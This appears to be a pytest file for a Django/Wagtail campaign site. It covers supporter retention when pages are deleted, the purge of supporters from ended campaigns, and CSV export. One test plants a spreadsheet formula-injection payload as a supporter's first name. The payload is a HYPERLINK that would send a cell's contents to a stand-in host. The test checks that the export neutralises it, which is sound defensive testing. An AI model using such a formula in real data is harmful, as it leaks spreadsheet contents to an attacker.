"""Supporters belong to the campaign as a whole (issue 13, item 3)."""

import datetime

import pytest

from django.db.models import ProtectedError
from django.urls import reverse

from campaigns.models import CampaignPage, Supporter, SupporterStatus
from campaigns.support import purge_ended

pytestmark = pytest.mark.django_db


@pytest.fixture
def english(campaign, en_listing, en, translate_page):
    return translate_page(campaign, en, {campaign.title: "My vote is not for sale"})


def pledge_13(page):
    for n in range(13):
        status = SupporterStatus.CONFIRMED if n < 10 else SupporterStatus.PENDING
        Supporter.objects.create(
            campaign=page,
            campaign_key=page.translation_key,
            first_name=f"Ëlira {n}",
            email=f"s{n}@example.org",
            language="en",
            status=status,
        )


def test_deleting_the_english_translation_keeps_every_supporter(admin_client, campaign, english):
    pledge_13(english)
    response = admin_client.post(reverse("wagtailadmin_pages:delete", args=[english.pk]))
    assert response.status_code == 302
    assert not CampaignPage.objects.filter(pk=english.pk).exists()
    assert Supporter.objects.filter(campaign=campaign).count() == 13
    campaign.refresh_from_db()
    assert campaign.supporter_count == 10


def test_deleting_the_campaign_is_refused_until_the_purge(admin_client, campaign):
    pledge_13(campaign)
    url = reverse("wagtailadmin_pages:delete", args=[campaign.pk])
    response = admin_client.post(url, follow=True)
    assert response.redirect_chain[0][1] == 302
    body = response.content.decode()
    assert "cannot be deleted" in body or "nuk mund të fshihet" in body
    with pytest.raises(ProtectedError):
        CampaignPage.objects.get(pk=campaign.pk).delete()
    assert Supporter.objects.count() == 13
    campaign.end_date = datetime.date(2020, 1, 1)
    campaign.save()
    purge_ended(datetime.date(2021, 1, 1))
    admin_client.post(url)
    assert not CampaignPage.objects.filter(pk=campaign.pk).exists()
    assert Supporter.objects.count() == 10
    assert {row.campaign_label for row in Supporter.objects.all()} == {campaign.title}


def test_supporters_csv_export_neutralises_formulas(admin_client, campaign):
    Supporter.objects.create(
        campaign=campaign,
        campaign_key=campaign.translation_key,
        first_name='=HYPERLINK("http://evil.example/?"&B2,"x")',
        email="s@example.org",
        language="sq",
        status=SupporterStatus.CONFIRMED,
    )
    response = admin_client.get("/admin/supporters/?export=csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
